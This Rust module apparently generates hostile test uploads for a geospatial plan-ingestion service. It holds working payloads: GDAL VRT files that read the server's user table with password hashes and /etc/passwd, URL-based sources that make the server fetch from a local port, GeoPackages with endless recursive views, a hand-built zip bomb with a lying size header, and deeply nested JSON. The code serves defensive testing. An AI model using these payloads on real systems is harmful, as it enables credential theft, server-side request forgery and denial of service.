//! Hostile uploads, built in code (no committed blobs): OGR VRTs that read
//! local files or the network, GeoPackages whose layer is an endless view,
//! a zip bomb of a shapefile (deflate written by hand, so building 640 MB
//! of content takes milliseconds and no memory), a huge self-crossing ring,
//! hundreds of overlapping HECs, and a legitimate but heavy plan.

use std::io::Write;
use std::path::Path;

/// A square around Hartford as WKT.
const HARTFORD_WKT: &str =
    "POLYGON((-72.72 41.74,-72.64 41.74,-72.64 41.80,-72.72 41.80,-72.72 41.74))";

fn xml_escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// One VRT layer reading `source` (optionally through SQL or a source layer).
fn vrt_layer(name: &str, source: &str, sql: Option<&str>, open_options: &[(&str, &str)]) -> String {
    let mut layer = format!(
        "  <OGRVRTLayer name=\"{name}\">\n    <SrcDataSource>{}</SrcDataSource>\n",
        xml_escape(source)
    );
    if !open_options.is_empty() {
        layer.push_str("    <OpenOptions>");
        for (k, v) in open_options {
            layer.push_str(&format!("<OOI key=\"{k}\">{v}</OOI>"));
        }
        layer.push_str("</OpenOptions>\n");
    }
    match sql {
        Some(sql) => {
            layer.push_str(&format!(
                "    <SrcSQL dialect=\"SQLite\">{}</SrcSQL>\n    <GeometryField encoding=\"WKT\" field=\"wkt\"/>\n",
                xml_escape(sql)
            ));
        }
        None => layer.push_str("    <SrcLayer>plan</SrcLayer>\n"),
    }
    layer.push_str(
        "    <GeometryType>wkbPolygon</GeometryType>\n    <LayerSRS>EPSG:4326</LayerSRS>\n  </OGRVRTLayer>\n",
    );
    layer
}

fn vrt(layers: &[String]) -> Vec<u8> {
    format!(
        "<OGRVRTDataSource>\n{}</OGRVRTDataSource>\n",
        layers.concat()
    )
    .into_bytes()
}

/// A VRT whose features are the server's accounts: username, role and
/// password hash as the HEC name (the attack that worked).
pub fn vrt_reading_the_store(store: &Path) -> Vec<u8> {
    let sql = format!(
        "SELECT username || ' ' || role || ' ' || password_hash AS hec, '{HARTFORD_WKT}' AS wkt FROM users"
    );
    vrt(&[vrt_layer(
        "plan",
        &store.display().to_string(),
        Some(&sql),
        &[],
    )])
}

/// A VRT reading /etc/passwd through the CSV driver, a line per HEC.
pub fn vrt_reading_passwd() -> Vec<u8> {
    let sql = format!("SELECT field_1 AS hec, '{HARTFORD_WKT}' AS wkt FROM passwd");
    vrt(&[vrt_layer(
        "plan",
        "CSV:/etc/passwd",
        Some(&sql),
        &[("HEADERS", "NO")],
    )])
}

/// A VRT whose source is on the attacker's "metadata service", through
/// GDAL's /vsicurl/ file system.
pub fn vrt_vsicurl(port: u16) -> Vec<u8> {
    vrt(&[vrt_layer(
        "plan",
        &format!("/vsicurl/http://127.0.0.1:{port}/x.gpkg"),
        None,
        &[],
    )])
}

/// A VRT whose sources are plain URLs: a GeoJSON over HTTP and a WFS.
pub fn vrt_plain_http(port: u16) -> Vec<u8> {
    vrt(&[
        vrt_layer(
            "plan",
            &format!("http://127.0.0.1:{port}/plan.geojson"),
            None,
            &[],
        ),
        vrt_layer(
            "wfs",
            &format!("WFS:http://127.0.0.1:{port}/wfs?"),
            None,
            &[],
        ),
    ])
}

/// A zip (deflate) holding `bytes` under `name`.
pub fn zip_one(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file(name, options).unwrap();
    zip.write_all(bytes).unwrap();
    zip.finish().unwrap().into_inner()
}

// ---------------------------------------------------------------- GeoPackage

/// A GeoPackage blob of a polygon (little-endian, no envelope, EPSG:4326).
fn gpkg_polygon_blob(ring: &[(f64, f64)]) -> Vec<u8> {
    let mut blob = b"GP".to_vec();
    blob.push(0); // version
    blob.push(0b0000_0001); // little-endian, no envelope
    blob.extend_from_slice(&4326i32.to_le_bytes());
    blob.push(1); // WKB little-endian
    blob.extend_from_slice(&3u32.to_le_bytes()); // polygon
    blob.extend_from_slice(&1u32.to_le_bytes()); // rings
    blob.extend_from_slice(&(ring.len() as u32).to_le_bytes());
    for &(x, y) in ring {
        blob.extend_from_slice(&x.to_le_bytes());
        blob.extend_from_slice(&y.to_le_bytes());
    }
    blob
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02X}")).collect()
}

/// How a GeoPackage's feature view never ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Endless {
    /// The view never yields a row: SQLite spins inside one step.
    Silent,
    /// The view yields the same polygon forever.
    Flood,
    /// The feature table is a real (empty) table, but the catalog
    /// `gpkg_contents` is a view that ends only after an endless count: GDAL
    /// spins while opening the file, before any check can look at layers.
    Catalog,
}

/// A real GeoPackage (made by GDAL's GPKG driver: a point layer "seed")
/// plus a VIEW over a never-ending recursive CTE, registered in
/// gpkg_contents and gpkg_geometry_columns as a polygon feature table.
pub fn spinning_geopackage(dir: &Path, endless: Endless) -> Vec<u8> {
    use gdal::DriverManager;
    use gdal::spatial_ref::SpatialRef;
    use gdal::vector::sql::Dialect;
    use gdal::vector::{LayerOptions, OGRwkbGeometryType};

    let path = dir.join(format!("spin-{endless:?}.gpkg"));
    let _ = std::fs::remove_file(&path);
    let driver = DriverManager::get_driver_by_name("GPKG").unwrap();
    let mut dataset = driver.create_vector_only(&path).unwrap();
    let srs = SpatialRef::from_epsg(4326).unwrap();
    dataset
        .create_layer(LayerOptions {
            name: "seed",
            srs: Some(&srs),
            ty: OGRwkbGeometryType::wkbPoint,
            options: None,
        })
        .unwrap();
    let square = [
        (-72.72, 41.74),
        (-72.64, 41.74),
        (-72.64, 41.80),
        (-72.72, 41.80),
        (-72.72, 41.74),
    ];
    let blob = hex(&gpkg_polygon_blob(&square));
    let filter = match endless {
        Endless::Silent => "WHERE n < 0",
        Endless::Flood => "",
        Endless::Catalog => {
            dataset
                .create_layer(LayerOptions {
                    name: "plan",
                    srs: Some(&srs),
                    ty: OGRwkbGeometryType::wkbPolygon,
                    options: None,
                })
                .unwrap();
            for sql in [
                "ALTER TABLE gpkg_contents RENAME TO gpkg_contents_real",
                "CREATE VIEW gpkg_contents AS SELECT * FROM gpkg_contents_real UNION ALL \
                 SELECT * FROM gpkg_contents_real WHERE (WITH RECURSIVE r(n) AS \
                 (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r) < 0",
            ] {
                dataset
                    .execute_sql(sql, None, Dialect::DEFAULT)
                    .unwrap_or_else(|e| panic!("{sql}: {e}"));
            }
            // Closing may try to write to the catalog, now a view: whatever
            // it says, the file is what the attack needs.
            let _ = dataset.close();
            return std::fs::read(&path).unwrap();
        }
    };
    let statements = [
        format!(
            "CREATE VIEW plan AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) \
             SELECT n AS fid, X'{blob}' AS geom, 'Spin ' || (n % 7) AS hec FROM r {filter}"
        ),
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id, min_x, min_y, max_x, max_y) \
         VALUES ('plan', 'features', 'plan', 4326, -72.72, 41.74, -72.64, 41.80)"
            .to_string(),
        "INSERT INTO gpkg_geometry_columns (table_name, column_name, geometry_type_name, srs_id, z, m) \
         VALUES ('plan', 'geom', 'POLYGON', 4326, 0, 0)"
            .to_string(),
    ];
    for sql in &statements {
        dataset
            .execute_sql(sql, None, Dialect::DEFAULT)
            .unwrap_or_else(|e| panic!("{sql}: {e}"));
    }
    dataset.close().unwrap();
    std::fs::read(&path).unwrap()
}

// ------------------------------------------------------------------ zip bomb

fn crc_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    for (i, slot) in table.iter_mut().enumerate() {
        let mut c = i as u32;
        for _ in 0..8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
        }
        *slot = c;
    }
    table
}

/// CRC-32 (zip's) of `bytes` appended to data whose CRC is `crc`.
pub fn crc32(crc: u32, bytes: &[u8]) -> u32 {
    let table = crc_table();
    let mut c = !crc;
    for &b in bytes {
        c = table[((c ^ b as u32) & 0xFF) as usize] ^ (c >> 8);
    }
    !c
}

/// CRC-32 after appending `n` zero bytes, in O(log n): the register update
/// for a zero byte is linear over GF(2), so n of them is a matrix power.
pub fn crc32_zeros(crc: u32, n: u64) -> u32 {
    let table = crc_table();
    let apply = |m: &[u32; 32], v: u32| -> u32 {
        let mut out = 0;
        for (i, row) in m.iter().enumerate() {
            if v >> i & 1 != 0 {
                out ^= row;
            }
        }
        out
    };
    let mut m = [0u32; 32];
    for (i, row) in m.iter_mut().enumerate() {
        let x = 1u32 << i;
        *row = table[(x & 0xFF) as usize] ^ (x >> 8);
    }
    let mut v = !crc;
    let mut n = n;
    while n > 0 {
        if n & 1 != 0 {
            v = apply(&m, v);
        }
        let mut square = [0u32; 32];
        for (i, row) in square.iter_mut().enumerate() {
            *row = apply(&m, m[i]);
        }
        m = square;
        n >>= 1;
    }
    !v
}

/// A raw deflate stream (one block, fixed Huffman codes).
struct Deflate {
    out: Vec<u8>,
    acc: u64,
    bits: u32,
}

const LENGTH_BASE: [u32; 29] = [
    3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131,
    163, 195, 227, 258,
];
const LENGTH_EXTRA: [u32; 29] = [
    0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0,
];

impl Deflate {
    fn new() -> Self {
        let mut d = Self {
            out: Vec::new(),
            acc: 0,
            bits: 0,
        };
        d.put(1, 1); // BFINAL
        d.put(1, 2); // BTYPE = 01, fixed Huffman codes
        d
    }

    fn put(&mut self, value: u32, count: u32) {
        self.acc |= (value as u64) << self.bits;
        self.bits += count;
        while self.bits >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.bits -= 8;
        }
    }

    /// A Huffman code: sent most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        let reversed = code.reverse_bits() >> (32 - len);
        self.put(reversed, len);
    }

    fn symbol(&mut self, sym: u32) {
        match sym {
            0..=143 => self.code(0x30 + sym, 8),
            144..=255 => self.code(0x190 + sym - 144, 9),
            256..=279 => self.code(sym - 256, 7),
            _ => self.code(0xC0 + sym - 280, 8),
        }
    }

    fn literal(&mut self, byte: u8) {
        self.symbol(byte as u32);
    }

    /// Copies `len` (3..=258) bytes from 1 byte back.
    fn repeat_last(&mut self, len: u32) {
        let i = if len == 258 {
            28
        } else {
            LENGTH_BASE.iter().rposition(|&b| b <= len).unwrap().min(27)
        };
        self.symbol(257 + i as u32);
        self.put(len - LENGTH_BASE[i], LENGTH_EXTRA[i]);
        self.code(0, 5); // distance code 0: distance 1
    }

    /// `prefix` then `zeros` zero bytes.
    fn encode(prefix: &[u8], zeros: u64) -> Vec<u8> {
        let mut d = Deflate::new();
        for &b in prefix {
            d.literal(b);
        }
        if zeros > 0 {
            d.literal(0);
            let mut left = zeros - 1;
            while left >= 258 {
                d.repeat_last(258);
                left -= 258;
            }
            if left >= 3 {
                d.repeat_last(left as u32);
            } else {
                for _ in 0..left {
                    d.literal(0);
                }
            }
        }
        d.symbol(256); // end of block
        if d.bits > 0 {
            d.out.push(d.acc as u8);
        }
        d.out
    }
}

/// One member of a hand-written zip.
pub struct ZipMember {
    pub name: String,
    /// 0 stored, 8 deflate.
    pub method: u16,
    pub crc: u32,
    /// What the headers say the unpacked size is (true unless set to lie).
    pub declared_size: u64,
    pub data: Vec<u8>,
}

impl ZipMember {
    pub fn stored(name: &str, bytes: &[u8]) -> Self {
        Self {
            name: name.into(),
            method: 0,
            crc: crc32(0, bytes),
            declared_size: bytes.len() as u64,
            data: bytes.to_vec(),
        }
    }

    /// `prefix` followed by `zeros` zero bytes, deflated.
    pub fn deflated_zeros(name: &str, prefix: &[u8], zeros: u64) -> Self {
        let size = prefix.len() as u64 + zeros;
        Self {
            name: name.into(),
            method: 8,
            crc: crc32_zeros(crc32(0, prefix), zeros),
            declared_size: size,
            data: Deflate::encode(prefix, zeros),
        }
    }
}

/// A zip archive of `members` (no zip64: every size under 4 GiB).
pub fn zip_archive(members: &[ZipMember]) -> Vec<u8> {
    const DOS_TIME: u16 = 0;
    const DOS_DATE: u16 = (44 << 9) | (1 << 5) | 1; // 2024-01-01
    let mut out = Vec::new();
    let mut central = Vec::new();
    for m in members {
        let offset = out.len() as u32;
        let csize = u32::try_from(m.data.len()).unwrap();
        let usize = u32::try_from(m.declared_size).unwrap();
        let name = m.name.as_bytes();
        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        out.extend_from_slice(&20u16.to_le_bytes()); // version needed
        out.extend_from_slice(&0u16.to_le_bytes()); // flags
        out.extend_from_slice(&m.method.to_le_bytes());
        out.extend_from_slice(&DOS_TIME.to_le_bytes());
        out.extend_from_slice(&DOS_DATE.to_le_bytes());
        out.extend_from_slice(&m.crc.to_le_bytes());
        out.extend_from_slice(&csize.to_le_bytes());
        out.extend_from_slice(&usize.to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes()); // extra
        out.extend_from_slice(name);
        out.extend_from_slice(&m.data);

        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&20u16.to_le_bytes()); // made by
        central.extend_from_slice(&20u16.to_le_bytes()); // needed
        central.extend_from_slice(&0u16.to_le_bytes());
        central.extend_from_slice(&m.method.to_le_bytes());
        central.extend_from_slice(&DOS_TIME.to_le_bytes());
        central.extend_from_slice(&DOS_DATE.to_le_bytes());
        central.extend_from_slice(&m.crc.to_le_bytes());
        central.extend_from_slice(&csize.to_le_bytes());
        central.extend_from_slice(&usize.to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0; 2 + 2 + 2 + 2]); // extra, comment, disk, internal attrs
        central.extend_from_slice(&0u32.to_le_bytes()); // external attrs
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name);
    }
    let cd_offset = out.len() as u32;
    let cd_size = central.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]); // disk numbers
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&cd_size.to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes()); // comment
    out
}

const WGS84_PRJ: &str = "GEOGCS[\"GCS_WGS_1984\",DATUM[\"D_WGS_1984\",SPHEROID[\"WGS_1984\",6378137.0,298.257223563]],PRIMEM[\"Greenwich\",0.0],UNIT[\"Degree\",0.0174532925199433]]";

/// A shapefile main-file (or index) header.
fn shp_header(file_bytes: u64) -> Vec<u8> {
    let mut h = Vec::with_capacity(100);
    h.extend_from_slice(&9994i32.to_be_bytes());
    h.extend_from_slice(&[0; 20]);
    h.extend_from_slice(&u32::try_from(file_bytes / 2).unwrap().to_be_bytes());
    h.extend_from_slice(&1000i32.to_le_bytes());
    h.extend_from_slice(&5i32.to_le_bytes()); // polygon
    h.extend_from_slice(&[0; 64]); // bounding box (x, y, z, m ranges)
    h
}

/// A one-record dBase file with a text field HEC.
fn dbf_one(hec: &str) -> Vec<u8> {
    let mut d = vec![0x03, 124, 1, 1];
    d.extend_from_slice(&1u32.to_le_bytes()); // records
    d.extend_from_slice(&65u16.to_le_bytes()); // header length: 32 + 32 + 1
    d.extend_from_slice(&11u16.to_le_bytes()); // record length: flag + 10
    d.extend_from_slice(&[0; 20]);
    let mut name = [0u8; 11];
    name[..3].copy_from_slice(b"HEC");
    d.extend_from_slice(&name);
    d.push(b'C');
    d.extend_from_slice(&[0; 4]);
    d.push(10); // width
    d.push(0);
    d.extend_from_slice(&[0; 14]);
    d.push(0x0D);
    d.push(b' ');
    let mut value = format!("{hec:<10}").into_bytes();
    value.truncate(10);
    d.extend_from_slice(&value);
    d.push(0x1A);
    d
}

/// A zipped shapefile (.shp/.shx/.dbf/.prj) whose one polygon claims
/// `points` vertices, all (0, 0): 16 bytes each once unpacked, a few bits
/// each packed. With `lie`, the zip headers claim the .shp is 1 MiB.
pub fn zip_bomb(points: u32, lie: bool) -> Vec<u8> {
    let content = 4 + 32 + 4 + 4 + 4 + 16 * points as u64; // type, box, parts, points, part 0
    let shp_bytes = 100 + 8 + content;
    let mut prefix = shp_header(shp_bytes);
    prefix.extend_from_slice(&1i32.to_be_bytes()); // record number
    prefix.extend_from_slice(&u32::try_from(content / 2).unwrap().to_be_bytes());
    prefix.extend_from_slice(&5i32.to_le_bytes());
    prefix.extend_from_slice(&[0; 32]);
    prefix.extend_from_slice(&1i32.to_le_bytes()); // parts
    prefix.extend_from_slice(&points.to_le_bytes());
    prefix.extend_from_slice(&0i32.to_le_bytes()); // part 0 starts at point 0
    let mut shx = shp_header(100 + 8);
    shx.extend_from_slice(&50i32.to_be_bytes());
    shx.extend_from_slice(&u32::try_from(content / 2).unwrap().to_be_bytes());
    let mut shp = ZipMember::deflated_zeros("plan.shp", &prefix, 16 * points as u64);
    if lie {
        shp.declared_size = 1 << 20;
    }
    zip_archive(&[
        ZipMember::stored("plan.prj", WGS84_PRJ.as_bytes()),
        ZipMember::stored("plan.dbf", &dbf_one("Bomb")),
        ZipMember::stored("plan.shx", &shx),
        shp,
    ])
}

// ------------------------------------------------------------------- GeoJSON

fn feature(hec: &str, ring: &[(f64, f64)]) -> String {
    let coords: Vec<String> = ring
        .iter()
        .map(|(x, y)| format!("[{x:.9},{y:.9}]"))
        .collect();
    format!(
        "{{\"type\":\"Feature\",\"properties\":{{\"hec\":\"{hec}\"}},\"geometry\":{{\"type\":\"Polygon\",\"coordinates\":[[{}]]}}}}",
        coords.join(",")
    )
}

fn collection(features: &[String]) -> Vec<u8> {
    format!(
        "{{\"type\":\"FeatureCollection\",\"features\":[{}]}}",
        features.join(",")
    )
    .into_bytes()
}

/// One HEC whose ring is a star polygon {n/k} with k near n/2 over central
/// Connecticut: every edge crosses most of the others (~n²/4 crossings).
pub fn self_crossing_star(n: usize) -> Vec<u8> {
    let k = n / 2 - 1;
    let (cx, cy, rx, ry) = (-72.68, 41.62, 0.45, 0.33);
    let mut ring: Vec<(f64, f64)> = (0..n)
        .map(|i| {
            let a = std::f64::consts::TAU * ((i * k) % n) as f64 / n as f64;
            (cx + rx * a.cos(), cy + ry * a.sin())
        })
        .collect();
    ring.push(ring[0]);
    collection(&[feature("Star", &ring)])
}

/// `count` HECs, each a large square over central Connecticut, shifted a
/// little from the last: every pair overlaps.
pub fn overlapping_hecs(count: usize) -> Vec<u8> {
    let features: Vec<String> = (0..count)
        .map(|i| {
            let (x, y) = (-72.95 + 0.002 * i as f64, 41.45 + 0.001 * i as f64);
            let s = 0.4;
            feature(
                &format!("HEC {i}"),
                &[(x, y), (x + s, y), (x + s, y + s), (x, y + s), (x, y)],
            )
        })
        .collect();
    collection(&features)
}

/// A legitimate statewide plan: Connecticut's box cut into `cols` x `rows`
/// HECs, each edge drawn with `per_edge` vertices.
pub fn grid_plan(cols: usize, rows: usize, per_edge: usize) -> Vec<u8> {
    let (x0, y0, x1, y1) = (-73.75, 40.95, -71.77, 42.06);
    let (dx, dy) = ((x1 - x0) / cols as f64, (y1 - y0) / rows as f64);
    let mut features = Vec::new();
    for row in 0..rows {
        for col in 0..cols {
            let (ax, ay) = (x0 + dx * col as f64, y0 + dy * row as f64);
            let (bx, by) = (ax + dx, ay + dy);
            let corners = [(ax, ay), (bx, ay), (bx, by), (ax, by), (ax, ay)];
            let mut ring = Vec::new();
            for w in corners.windows(2) {
                for s in 0..per_edge {
                    let t = s as f64 / per_edge as f64;
                    ring.push((
                        w[0].0 + (w[1].0 - w[0].0) * t,
                        w[0].1 + (w[1].1 - w[0].1) * t,
                    ));
                }
            }
            ring.push(ring[0]);
            features.push(feature(&format!("Grid {row}-{col}"), &ring));
        }
    }
    collection(&features)
}

/// One valid HEC: an ellipse over central Connecticut drawn with `n`
/// vertices (a dense but honest ring).
pub fn dense_ellipse(n: usize) -> Vec<u8> {
    let (cx, cy, rx, ry) = (-72.68, 41.62, 0.45, 0.33);
    let mut ring: Vec<(f64, f64)> = (0..n)
        .map(|i| {
            let a = std::f64::consts::TAU * i as f64 / n as f64;
            (cx + rx * a.cos(), cy + ry * a.sin())
        })
        .collect();
    ring.push(ring[0]);
    collection(&[feature("Ellipse", &ring)])
}

/// A JSON document nested `depth` arrays deep inside a Feature's
/// coordinates.
pub fn deeply_nested(depth: usize) -> Vec<u8> {
    let mut s = String::from(
        "{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{\"hec\":\"Deep\"},\"geometry\":{\"type\":\"Polygon\",\"coordinates\":",
    );
    s.push_str(&"[".repeat(depth));
    s.push_str(&"]".repeat(depth));
    s.push_str("}}]}");
    s.into_bytes()
}
